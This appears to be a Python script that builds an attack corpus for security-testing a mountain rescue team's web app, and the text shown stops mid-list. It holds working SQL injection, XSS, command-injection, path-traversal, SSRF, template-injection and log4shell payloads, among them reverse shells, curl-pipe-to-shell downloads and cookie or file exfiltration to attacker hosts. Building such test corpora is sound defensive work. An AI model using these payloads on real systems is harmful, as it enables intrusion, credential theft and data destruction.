#!/usr/bin/env python3
"""Attack corpus for a volunteer mountain rescue team app. Hand-written, stdlib only."""
import json, os, random

SEED = 29602
rng = random.Random(SEED)
A = []  # (category, class, value, literal?)

def lit(cat, items):
    for cls, v in items:
        A.append((cat, cls, v, True))

# ---------------- SQLi ----------------
lit("sqli", [
    ("union", "Sharp Edge' UNION SELECT member_id, phone, home_postcode FROM members-- -"),
    ("union", "24-117' union all select null,username,password_hash,null from staff_accounts#"),
    ("union", "rope') UNION SELECT 1,table_name,3 FROM information_schema.tables WHERE table_schema=database()-- "),
    ("union", "0 UNION SELECT group_concat(email SEPARATOR ';'),2 FROM donors"),
    ("union", "x' UnIoN SeLeCt casualty_name,dob FROM casualty_records WHERE '1'='1"),
    ("union", "helvellyn'/**/UNION/**/SELECT/**/api_key,2,3/**/FROM/**/integrations--"),
    ("union", "-1 union select 1,@@version,user(),4-- x"),
    ("union", "ankle' UNION SELECT sql,null FROM sqlite_master WHERE type='table'--"),
    ("union", "NY 342' union distinct select iban,sort_code from donor_bank_details-- -"),
    ("union", "99999 UNION ALL SELECT column_name,NULL FROM information_schema.columns WHERE table_name='members'"),
    ("union", "C5') ) union select string_agg(usename||':'||passwd, ','),null from pg_shadow--"),
    ("union", "')/*!50000UNION*//*!50000SELECT*/ pager_pin, 2 FROM members-- "),
    ("tautology", "' OR '1'='1"),
    ("tautology", "O'Brien' OR 1=1-- "),
    ("tautology", "leader' or 'a'='a' -- "),
    ("tautology", "x\" OR \"\"=\"\""),
    ("tautology", "admin'-- "),
    ("tautology", "duty_leader')) OR ((2>1"),
    ("tautology", "1 or true"),
    ("tautology", "' || 1=1 #"),
    ("tautology", "Priya' OR 'x' LIKE 'x"),
    ("tautology", "' or 7 between 1 and 9 -- -"),
    ("tautology", "rota' OR NOT 3=4 --"),
    ("stacked", "24-131'; DROP TABLE callouts;-- "),
    ("stacked", "R-14'; UPDATE kit SET status='pass' WHERE 1=1; --"),
    ("stacked", "1; INSERT INTO staff_accounts(username,password_hash,role) VALUES('helper','x','admin')--"),
    ("stacked", "Bess'); DELETE FROM radio_log WHERE incident_id=140;--"),
    ("stacked", "0;EXEC xp_cmdshell 'whoami > C:\\inetpub\\wwwroot\\w.txt'--"),
    ("stacked", "x'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/p|sh';--"),
    ("stacked", "2024-03-02'; ALTER TABLE members ADD COLUMN x int;--"),
    ("stacked", "ok'; GRANT ALL PRIVILEGES ON *.* TO 'mr'@'%';-- "),
    ("stacked", "1;SHUTDOWN WITH NOWAIT;--"),
    ("time-blind", "Helvellyn' AND SLEEP(5)-- -"),
    ("time-blind", "1 AND (SELECT 1 FROM (SELECT SLEEP(7))q)"),
    ("time-blind", "x'; WAITFOR DELAY '0:0:6'--"),
    ("time-blind", "' OR pg_sleep(8) IS NULL--"),
    ("time-blind", "24-117' AND 4242=(SELECT 4242 FROM PG_SLEEP(5))-- "),
    ("time-blind", "1' AND IF(SUBSTRING(@@version,1,1)='8',SLEEP(4),0)-- x"),
    ("time-blind", "1 and benchmark(9000000,sha1('mrt'))"),
    ("time-blind", "ankle') AND 7=DBMS_PIPE.RECEIVE_MESSAGE('a',6) AND ('z'='z"),
    ("time-blind", "rope' AND 1=(SELECT COUNT(*) FROM all_users t1, all_users t2, all_users t3)--"),
    ("time-blind", "Striding Edge';SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--"),
    ("boolean-blind", "Bess' AND SUBSTRING((SELECT password_hash FROM staff_accounts LIMIT 1),1,1)='$'-- "),
    ("boolean-blind", "1 AND ASCII(SUBSTR((SELECT pager_pin FROM members WHERE id=1),1,1))>52"),
    ("boolean-blind", "leader' AND (SELECT COUNT(*) FROM staff_accounts)>3 AND 'q'='q"),
    ("boolean-blind", "R-14' AND LENGTH(database())=6-- -"),
    ("boolean-blind", "x' AND 1=(CASE WHEN (SELECT 1 FROM members WHERE role='admin' LIMIT 1)=1 THEN 1 ELSE 0 END)--"),
    ("boolean-blind", "1' and mid(user(),1,4)='root"),
    ("boolean-blind", "Niamh' AND EXISTS(SELECT * FROM donors WHERE email LIKE 'a%')--"),
    ("error", "1 AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT password_hash FROM staff_accounts LIMIT 1)))"),
    ("error", "x' AND UPDATEXML(null,concat(0x3a,version()),null)-- -"),
    ("error", "1' AND 1=CONVERT(int,(SELECT TOP 1 username FROM staff_accounts))--"),
    ("error", "' AND 1=CAST((SELECT string_agg(email,',') FROM donors) AS int)--"),
    ("error", "24-117' and (select 1 from(select count(*),concat((select user()),floor(rand(0)*2))x from information_schema.tables group by x)a)-- "),
    ("error", "1 AND 1=ctxsys.drithsx.sn(1,(select user from dual))"),
    ("order-by", "date desc, (SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)"),
    ("order-by", "callout_no ASC; DROP TABLE rota--"),
    ("order-by", "IF(1=1,date,hours)"),
    ("order-by", "3,(select sleep(5))"),
    ("order-by", "name LIMIT 1 UNION SELECT password_hash FROM staff_accounts--"),
    ("obfuscated", "ankle'%20UnIoN%20SeLeCt%20username,password_hash%20FrOm%20staff_accounts--%20"),
    ("obfuscated", "1'%2527%20OR%201%3D1--"),
    ("obfuscated", "x'/*comment*/OR/*other*/'1'='1"),
    ("obfuscated", "ＳＥＬＥＣＴ' ｕｎｉｏｎ ｓｅｌｅｃｔ password_hash ｆｒｏｍ staff_accounts--"),
    ("obfuscated", "Tom'%0aunion%0aselect%0a1,pager_pin%0afrom%0amembers--"),
    ("obfuscated", "1'\tOR\t'2'\t=\t'2"),
    ("obfuscated", "Bryn' UN/**/ION SEL/**/ECT 1,2--"),
    ("obfuscated", "'+or+char(49)=char(49)--"),
    ("obfuscated", "x' OR 0x31=0x31 -- "),
    ("obfuscated", "r%27%20or%20%271%27%3d%271"),
    ("second-order", "Kate O'Brien'); UPDATE staff_accounts SET role='admin' WHERE username='kate';--"),
    ("second-order", "Sunrise walk'||(SELECT pager_pin FROM members WHERE id=1)||'"),
    ("out-of-band", "1'; SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT pager_pin FROM members LIMIT 1),'.dns.attacker.example\\\\a'))-- "),
    ("out-of-band", "x' UNION SELECT UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) FROM dual--"),
])
SQLI_PREFIX = ["Scafell Pike", "R-14", "24-131", "Jonas", "sector C5", "ankle fracture"]
SQLI_POOL = ["' AND 1=2 UNION SELECT name,phone FROM members-- -", "'; DROP TABLE kit_inspections;--", "' OR SLEEP(6)#", "' AND 5=5 AND ''='"]
SQLI_URL = ["' UNION SELECT email,password_hash FROM staff_accounts--", "1 OR 1=1", "'; TRUNCATE donors;--"]

# ---------------- XSS ----------------
lit("xss", [
    ("script-tag", "Walked off fine <script>fetch('https://attacker.example/c?k='+document.cookie)</script>"),
    ("script-tag", "<script src=//attacker.example/mr.js></script>"),
    ("script-tag", "Great talk!<ScRiPt>new Image().src='//attacker.example/l?'+localStorage.token</sCrIpT>"),
    ("script-tag", "<script>document.location='https://attacker.example/steal?c='+encodeURIComponent(document.cookie)</script>"),
    ("script-tag", "</textarea><script>alert(document.domain)</script>"),
    ("script-tag", "\"></title><script>eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZScp'))</script>"),
    ("script-tag", "<script type=module>import('//attacker.example/x.mjs')</script>"),
    ("event-handler", "<img src=x onerror=alert(1)>"),
    ("event-handler", "Casualty photo: <img src=/nope.jpg onerror=\"fetch('//attacker.example/'+document.cookie)\">"),
    ("event-handler", "<svg onload=confirm`mrt`>"),
    ("event-handler", "<body onload=location='//attacker.example'>"),
    ("event-handler", "<details open ontoggle=alert(document.cookie)>"),
    ("event-handler", "<input autofocus onfocus=alert(origin)>"),
    ("event-handler", "<video><source onerror=\"javascript:alert(1)\">"),
    ("event-handler", "<marquee onstart=alert(2)>Thanks team!</marquee>"),
    ("event-handler", "<div style=\"width:100%;height:100vh\" onmouseover=\"alert(3)\">donate</div>"),
    ("event-handler", "<audio src=1 onerror=prompt(1)>"),
    ("event-handler", "<iframe onload=alert(parent.document.cookie) src=about:blank>"),
    ("event-handler", "<img/src/onerror=alert(1)>"),
    ("event-handler", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("event-handler", "<select autofocus onfocus=alert(1)>"),
    ("event-handler", "<a onpointerenter=alert(1)>Sector C5</a>"),
    ("event-handler", "<object data=x onerror=alert(1)>"),
    ("event-handler", "<textarea autofocus onfocusin=alert(1)>"),
    ("attr-breakout", "\" onmouseover=\"alert(document.cookie)"),
    ("attr-breakout", "Niamh' autofocus onfocus='fetch(`//attacker.example/${document.cookie}`)"),
    ("attr-breakout", "x\"><img src=1 onerror=alert(1)>"),
    ("attr-breakout", "\" style=\"animation-name:rotation\" onanimationstart=\"alert(1)"),
    ("attr-breakout", "'><svg/onload=alert(/xss/)>"),
    ("attr-breakout", "MR-01\" accesskey=\"x\" onclick=\"alert(1)"),
    ("js-context", "';alert(String.fromCharCode(88,83,83));//"),
    ("js-context", "\";fetch('//attacker.example/'+document.cookie);//"),
    ("js-context", "</script><script>alert(1)</script>"),
    ("js-context", "Tom'-alert(1)-'"),
    ("js-context", "${alert(document.domain)}`;//"),
    ("js-context", "\\';alert(1);//"),
    ("uri-scheme", "javascript:alert(document.cookie)"),
    ("uri-scheme", "<a href=\"javascript:fetch('//attacker.example/?'+document.cookie)\">track log</a>"),
    ("uri-scheme", "JaVaScRiPt:alert(1)"),
    ("uri-scheme", "java\tscript:alert(1)"),
    ("uri-scheme", "<a href=\"&#106;avascript&#58;alert(1)\">GPX</a>"),
    ("uri-scheme", "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></iframe>"),
    ("uri-scheme", "<form action=javascript:alert(1)><button>Donate</button></form>"),
    ("uri-scheme", "<object data=\"data:text/html,<script>alert(1)</script>\"></object>"),
    ("uri-scheme", "<embed src=javascript:alert(1)>"),
    ("uri-scheme", "[photos](javascript:alert(document.cookie))"),
    ("uri-scheme", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>click</maction></math>"),
    ("encoded", "&lt;script&gt;alert(1)&lt;/script&gt; <img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;1&#41;>"),
    ("encoded", "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
    ("encoded", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("encoded", "\\u003cimg src=x onerror=alert(1)\\u003e"),
    ("encoded", "<img src=x onerror=\"&#x61;&#x6c;&#x65;&#x72;&#x74;(1)\">"),
    ("encoded", "＜script＞alert(1)＜/script＞"),
    ("encoded", "<svg onload=eval('\\x61lert(1)')>"),
    ("encoded", "<img src=x onerror=top['al'+'ert'](1)>"),
    ("encoded", "<svg><script>&#x61;lert(1)</script></svg>"),
    ("encoded", "%u003Cscript%u003Ealert(1)%u003C/script%u003E"),
    ("mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("mutation", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    ("mutation", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("mutation", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("mutation", "<<img src=x onerror=alert(1)//<"),
    ("css-injection", "<div style=\"background:url(javascript:alert(1))\">"),
    ("css-injection", "<style>@import'//attacker.example/x.css';</style>"),
    ("css-injection", "<link rel=stylesheet href=//attacker.example/s.css>"),
    ("template-client", "{{constructor.constructor('alert(1)')()}}"),
    ("template-client", "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)>"),
    ("template-client", "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>"),
    ("dom", "#<img src=x onerror=alert(1)>"),
    ("dom", "<base href=//attacker.example/>"),
    ("dom", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/phish\">"),
    ("dom", "<form id=test><input name=attributes></form><img src=x onerror=alert(1)>"),
])
XSS_PREFIX = ["Thank you for helping my dad ", "Obs 13:05 ", "Kit note: ", "Great fete stall! ", "Rota swap please "]
XSS_POOL = ["<img src=q onerror=alert(document.cookie)>", "<svg/onload=fetch('//attacker.example/'+document.cookie)>", "<script>alert(origin)</script>", "<iframe srcdoc=\"<script>parent.alert(1)</script>\">"]

# ---------------- CMDi ----------------
lit("cmdi", [
    ("separator", "track_mr2.gpx; cat /etc/passwd"),
    ("separator", "R-14.pdf && curl -s http://attacker.example/x.sh | sh"),
    ("separator", "photo.jpg | nc 203.0.113.7 4444 -e /bin/sh"),
    ("separator", "rota.csv; rm -rf /var/www/uploads/*"),
    ("separator", "x || wget -qO- http://198.51.100.23/b | bash"),
    ("separator", "NY3421; id; uname -a"),
    ("separator", "report.pdf & ping -n 10 203.0.113.9 &"),
    ("separator", "24-117\nwhoami\n"),
    ("separator", "a.gpx%0acat%20/etc/shadow"),
    ("separator", "logo.png;bash -i >& /dev/tcp/203.0.113.50/9001 0>&1"),
    ("separator", "backup.zip & type C:\\Windows\\win.ini"),
    ("separator", "sector C5 | powershell -nop -c \"iwr http://attacker.example/p.ps1|iex\""),
    ("separator", "photo.jpg;python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.12\",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("separator", "t.gpx;php -r '$s=fsockopen(\"198.51.100.4\",8080);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"),
    ("separator", "Bess; perl -e 'system(\"id\")'"),
    ("separator", "x; echo c2ggLWkgPiYgL2Rldi90Y3AvMjAzLjAuMTEzLjQvOTAwMSAwPiYx | base64 -d | sh"),
    ("separator", "MR-02.jpg & certutil -urlcache -split -f http://attacker.example/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe"),
    ("separator", "helvellyn; crontab -l | { cat; echo '* * * * * curl attacker.example/k|sh'; } | crontab -"),
    ("separator", "x;echo 'ssh-ed25519 AAAAFAKEKEY attacker' >> ~/.ssh/authorized_keys"),
    ("separator", "1.2.3.4 ; tar czf - /srv/mrt | curl -T - http://attacker.example/up"),
    ("substitution", "$(curl http://attacker.example/$(whoami))"),
    ("substitution", "track-`id`.gpx"),
    ("substitution", "Scafell $(sleep 10) Pike"),
    ("substitution", "`nslookup $(hostname).attacker.example`"),
    ("substitution", "name=$(cat /etc/hostname)"),
    ("substitution", "rope_$(wget -O /tmp/x http://203.0.113.77/x;chmod +x /tmp/x;/tmp/x).pdf"),
    ("substitution", "${IFS}cat${IFS}/etc/passwd"),
    ("substitution", "$(printf '\\x69\\x64')"),
    ("substitution", "<(curl -s attacker.example/r)"),
    ("substitution", "x$(echo${IFS}aWQ=|base64${IFS}-d|sh)"),
    ("blind", "gpx.gpx; sleep 15 #"),
    ("blind", "a.pdf | ping -c 12 127.0.0.1"),
    ("blind", "foo && timeout 9 yes > /dev/null"),
    ("blind", "$(ping -c 1 `whoami`.oob.attacker.example)"),
    ("blind", "x;dig +short $(id -u).attacker.example"),
    ("blind", "||nslookup%20x.attacker.example||"),
    ("obfuscated", "x;c''at /e't'c/pa's'swd"),
    ("obfuscated", "x;/???/c?t /???/p?ss??"),
    ("obfuscated", "x;w\\h\\o\\a\\m\\i"),
    ("obfuscated", "x;$u/bin/cat${u} /etc/passwd"),
    ("obfuscated", "a;{cat,/etc/passwd}"),
    ("obfuscated", "x;X=$'\\x63\\x61\\x74';$X /etc/passwd"),
    ("obfuscated", "b&&c\"ur\"l attacker.example/s|s\"h\""),
    ("obfuscated", "x;cat</etc/passwd"),
    ("obfuscated", "x;IFS=,;`cat<<<uname,-a`"),
    ("obfuscated", "x;$(rev<<<'di')"),
    ("obfuscated", "x%3Bcat%20%2Fetc%2Fpasswd"),
    ("obfuscated", "x%26%26id"),
    ("obfuscated", "a;tr 'a-z' 'n-za-m' <<< 'pheY nggnpxre.rknzcyr/k' | sh"),
    ("obfuscated", "cmd /c \"set x=who&& set y=ami&& call %x%%y%\""),
    ("obfuscated", "a&&p^o^w^e^r^s^h^e^l^l -enc SQBFAFgA"),
    ("argument-injection", "--output=/var/www/html/s.php http://attacker.example/s.txt"),
    ("argument-injection", "-oProxyCommand=curl${IFS}attacker.example/x|sh x"),
    ("argument-injection", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/pwn.sh"),
    ("argument-injection", "-exec sh -c 'id>/tmp/o' ;"),
    ("argument-injection", "track.gpx -o /etc/cron.d/x"),
    ("argument-injection", "--use-compress-program='sh -c id'"),
    ("argument-injection", "-F 'file=@/etc/passwd' http://attacker.example/u"),
    ("argument-injection", "ImageMagick: photo.jpg' -write msl:/tmp/x.msl '"),
    ("argument-injection", "--post-file=/etc/passwd http://attacker.example/"),
    ("argument-injection", "--upload-pack='touch /tmp/pwned' "),
    ("filename", "casualty;curl attacker.example|sh;.jpg"),
    ("filename", "|id"),
    ("filename", "route$(reboot).gpx"),
    ("filename", "a.jpg`sh -c 'id > /tmp/z'`"),
    ("filename", "mugshot.png; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.66 7000 > /tmp/f"),
    ("windows", "report.pdf & net user mrtadmin Passw0rd! /add & net localgroup administrators mrtadmin /add"),
    ("windows", "x | powershell -c \"Invoke-WebRequest -Uri http://203.0.113.8/s -OutFile $env:TEMP\\s.exe\""),
    ("windows", "& whoami /priv"),
])
CMDI_PREFIX = ["track_mr1.gpx", "kit_photo_0012.jpg", "rota-week12.csv", "casualty_card_5521.pdf", "drone_log.txt"]
CMDI_POOL = ["; curl http://attacker.example/i.sh|sh", " && cat /etc/passwd", " | id", "$(sleep 8)", "`uname -a`"]

# ---------------- traversal ----------------
lit("traversal", [
    ("dotdot", "../../../../etc/passwd"),
    ("dotdot", "photos/2024-03-10/../../../../../etc/shadow"),
    ("dotdot", "..\\..\\..\\..\\Windows\\win.ini"),
    ("dotdot", "track_mr2.gpx/../../../../proc/self/environ"),
    ("dotdot", "../../../../../var/www/mrt/.env"),
    ("dotdot", "../../config/database.yml"),
    ("dotdot", "certs/2024/../../../../home/mrt/.ssh/id_rsa"),
    ("dotdot", "../../../../../../root/.bash_history"),
    ("dotdot", "..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("dotdot", "../../../../../proc/self/cmdline"),
    ("dotdot", "../../app/settings.py"),
    ("dotdot", "../../../../var/log/nginx/access.log"),
    ("dotdot", "uploads/../../../../../etc/hosts"),
    ("encoded", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("encoded", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("encoded", "..%2f..%2f..%2f..%2fetc/shadow"),
    ("encoded", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("encoded", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("encoded", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("encoded", "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd"),
    ("encoded", "..%255c..%255c..%255cboot.ini"),
    ("encoded", "．．/．．/．．/etc/passwd"),
    ("encoded", "%2e%2e/%2e%2e/%2e%2e/%2e%2e/proc/self/environ"),
    ("encoded", "..%e0%80%af..%e0%80%afetc/passwd"),
    ("encoded", ".%2e/.%2e/.%2e/.%2e/etc/passwd"),
    ("filter-bypass", "....//....//....//etc/passwd"),
    ("filter-bypass", "..././..././..././etc/passwd"),
    ("filter-bypass", "....\\\\....\\\\....\\\\windows\\\\win.ini"),
    ("filter-bypass", "photos/..;/..;/..;/etc/passwd"),
    ("filter-bypass", "/var/www/mrt/uploads/../../../../etc/passwd"),
    ("filter-bypass", "../../../../etc/passwd%00.jpg"),
    ("filter-bypass", "../../../../etc/passwd\\u0000.gpx"),
    ("filter-bypass", "..//..//..//..//etc//passwd"),
    ("filter-bypass", "/.././.././.././etc/passwd"),
    ("filter-bypass", "..\\/..\\/..\\/etc\\/passwd"),
    ("absolute", "/etc/passwd"),
    ("absolute", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("absolute", "/proc/self/fd/3"),
    ("absolute", "file:///etc/passwd"),
    ("absolute", "\\\\203.0.113.5\\share\\rota.csv"),
    ("absolute", "/home/mrt/app/.git/config"),
    ("wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
    ("wrapper", "zip://uploads/rota.zip%23../../shell.php"),
    ("wrapper", "phar://uploads/avatar.jpg/test.txt"),
])
TRAV_PREFIX = ["photos/2024/", "certs/", "gpx/"]
TRAV_POOL = ["../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "../../../.env"]
TRAV_URL = ["../../../../etc/passwd", "../../../proc/self/environ", "..\\..\\boot.ini"]

# ---------------- SSRF ----------------
lit("ssrf", [
    ("cloud-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("cloud-metadata", "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token"),
    ("cloud-metadata", "http://metadata.google.internal/computeMetadata/v1/?recursive=true"),
    ("cloud-metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("cloud-metadata", "http://[fd00:ec2::254]/latest/user-data"),
    ("cloud-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("cloud-metadata", "http://169.254.170.2/v2/credentials/"),
    ("loopback", "http://127.0.0.1:8080/admin/members/export"),
    ("loopback", "http://localhost:6379/"),
    ("loopback", "http://127.1/server-status"),
    ("loopback", "http://0.0.0.0:9200/_cat/indices"),
    ("loopback", "http://[::1]:2375/containers/json"),
    ("loopback", "http://localhost:5984/_all_dbs"),
    ("loopback", "https://127.0.0.1:8443/actuator/env"),
    ("internal", "http://10.0.0.12/callout-app/internal/debug"),
    ("internal", "http://192.168.1.1/cgi-bin/luci"),
    ("internal", "http://172.17.0.1:8500/v1/agent/self"),
    ("internal", "http://pager-gateway.internal:8000/send?all=1"),
    ("internal", "http://postgres:5432/"),
    ("internal", "http://kubernetes.default.svc/api/v1/secrets"),
    ("internal", "http://vault:8200/v1/secret/data/mrt"),
    ("alt-ip", "http://2130706433/"),
    ("alt-ip", "http://0x7f000001:8080/"),
    ("alt-ip", "http://0177.0.0.1/"),
    ("alt-ip", "http://2852039166/latest/meta-data/"),
    ("alt-ip", "http://0xA9FEA9FE/latest/meta-data/"),
    ("alt-ip", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("alt-ip", "http://169.254.43518/latest/meta-data/"),
    ("alt-ip", "http://①②⑦.⓪.⓪.①/"),
    ("alt-ip", "http://127.000.000.001:22/"),
    ("alt-ip", "http://0/"),
    ("parser-confusion", "http://attacker.example@127.0.0.1:8080/admin"),
    ("parser-confusion", "http://127.0.0.1#@photos.attacker.example/"),
    ("parser-confusion", "http://trusted-donate.example.org.attacker.example/"),
    ("parser-confusion", "https://attacker.example\\@169.254.169.254/"),
    ("parser-confusion", "http://127.0.0.1%2523@attacker.example/"),
    ("parser-confusion", "http://127-0-0-1.rebind.attacker.example:8080/admin"),
    ("redirect", "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/"),
    ("redirect", "http://198.51.100.14/302.php?u=http%3A%2F%2F127.0.0.1%3A8080%2Fadmin"),
    ("redirect", "https://rebind.attacker.example/gpx/track.gpx"),
    ("scheme", "gopher://127.0.0.1:6379/_SET%20mrt%20pwned%0D%0ACONFIG%20SET%20dir%20/var/www%0D%0A"),
    ("scheme", "dict://127.0.0.1:11211/stats"),
    ("scheme", "file:///proc/self/environ"),
    ("scheme", "ftp://198.51.100.9/../../etc/passwd"),
    ("scheme", "ldap://127.0.0.1:389/dc=mrt"),
    ("scheme", "tftp://203.0.113.3/pxe.cfg"),
    ("scheme", "jar:http://attacker.example/evil.jar!/"),
])
SSRF_PREFIX = ["Photo import URL: ", "GPX link: ", "Donor logo: "]
SSRF_POOL = ["http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:2379/v2/keys/", "http://10.1.2.3:8080/manager/html", "http://localhost/admin"]

# ---------------- code (SSTI, EL, eval, log4shell, proto, CSV, XXE, deser) ----------------
lit("code", [
    ("ssti-jinja", "Dear {{ config.items() }}, thanks"),
    ("ssti-jinja", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("ssti-jinja", "{{ cycler.__init__.__globals__.os.popen('curl attacker.example/j|sh').read() }}"),
    ("ssti-jinja", "Hi {{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("ssti-jinja", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').system('id') }}{% endif %}{% endfor %}"),
    ("ssti-jinja", "{{ request.application.__globals__.__builtins__.open('/etc/passwd').read() }}"),
    ("ssti-jinja", "{{ lipsum.__globals__['os'].popen('cat /srv/mrt/.env').read() }}"),
    ("ssti-jinja", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}"),
    ("ssti-jinja", "{{ namespace.__init__.__globals__.os.environ }}"),
    ("ssti-twig", "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('id') }}"),
    ("ssti-twig", "{{ ['cat /etc/passwd']|filter('system') }}"),
    ("ssti-twig", "{{ ['id']|map('passthru')|join }}"),
    ("ssti-freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("ssti-freemarker", "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",[\"sh\",\"-c\",\"id\"]).start()}"),
    ("ssti-velocity", "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("ssti-erb", "<%= `cat /etc/passwd` %>"),
    ("ssti-erb", "<%= system('curl attacker.example/r|sh') %>"),
    ("ssti-erb", "<%= File.read('/srv/mrt/config/master.key') %>"),
    ("ssti-smarty", "{system('id')}"),
    ("ssti-smarty", "{php}echo shell_exec('id');{/php}"),
    ("ssti-handlebars", "{{#with \"s\" as |string|}}{{#with string.split as |conslist|}}{{this.push (lookup string.sub \"constructor\")}}{{#with (string.sub.apply 0 conslist) as |f|}}{{f \"return process.mainModule.require('child_process').execSync('id')\"}}{{/with}}{{/with}}{{/with}}"),
    ("ssti-pug", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("ssti-ejs", "<%= process.mainModule.require('child_process').execSync('cat /etc/passwd') %>"),
    ("ssti-tornado", "{% import os %}{{ os.popen('id').read() }}"),
    ("ssti-mako", "${__import__('os').popen('id').read()}"),
    ("ssti-razor", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("ssti-thymeleaf", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("ssti-go", "{{ .Env.DATABASE_URL }} {{ printf \"%s\" .Secrets }}"),
    ("expression-language", "${T(java.lang.Runtime).getRuntime().exec('curl attacker.example/s')}"),
    ("expression-language", "#{T(java.lang.System).getenv()}"),
    ("expression-language", "${applicationScope}"),
    ("expression-language", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("expression-language", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("expression-language", "#{session.setAttribute('role','admin')}"),
    ("expression-language", "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}"),
    ("expression-language", "${pageContext.request.getSession().setAttribute('isLeader', true)}"),
    ("log4shell", "Walker lost near ${jndi:ldap://attacker.example:1389/Exploit}"),
    ("log4shell", "${jndi:rmi://203.0.113.44:1099/obj}"),
    ("log4shell", "${${lower:j}ndi:${lower:l}dap://attacker.example/x}"),
    ("log4shell", "${${::-j}${::-n}${::-d}${::-i}:ldap://198.51.100.2/a}"),
    ("log4shell", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}"),
    ("log4shell", "${${env:NOPE:-j}ndi${env:NOPE:-:}ldaps://attacker.example/z}"),
    ("log4shell", "${j${k8s:k5:-ND}i:ldap://attacker.example/k}"),
    ("log4shell", "User-Agent: ${jndi:ldap://${hostName}.attacker.example/ua}"),
    ("js-eval", "require('child_process').exec('curl attacker.example/n|sh')"),
    ("js-eval", "process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')"),
    ("js-eval", "');require('child_process').execSync('id');//"),
    ("js-eval", "this.constructor.constructor('return process')().env"),
    ("js-eval", "1;global.process.exit()"),
    ("python-eval", "__import__('os').system('id')"),
    ("python-eval", "open('/srv/mrt/.env').read()"),
    ("python-eval", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='Popen'][0]('id',shell=True)"),
    ("python-eval", "eval(compile('import os;os.system(\"id\")','x','exec'))"),
    ("php-eval", "<?php system($_GET['c']); ?>"),
    ("php-eval", "<?=`$_POST[x]`?>"),
    ("php-eval", "phpinfo();"),
    ("php-eval", "${@eval(base64_decode('c3lzdGVtKCdpZCcpOw=='))}"),
    ("php-eval", "assert('system(\"id\")');"),
    ("ruby-eval", "Kernel.exec('id')"),
    ("prototype-pollution", "{\"__proto__\":{\"isAdmin\":true}}"),
    ("prototype-pollution", "{\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}"),
    ("prototype-pollution", "__proto__[outputFunctionName]=_tmp1;global.process.mainModule.require('child_process').execSync('id');var __tmp2"),
    ("prototype-pollution", "{\"settings\":{\"__proto__\":{\"shell\":\"/proc/self/exe\",\"NODE_OPTIONS\":\"--require /proc/self/environ\"}}}"),
    ("prototype-pollution", "constructor[prototype][allowDelete]=1"),
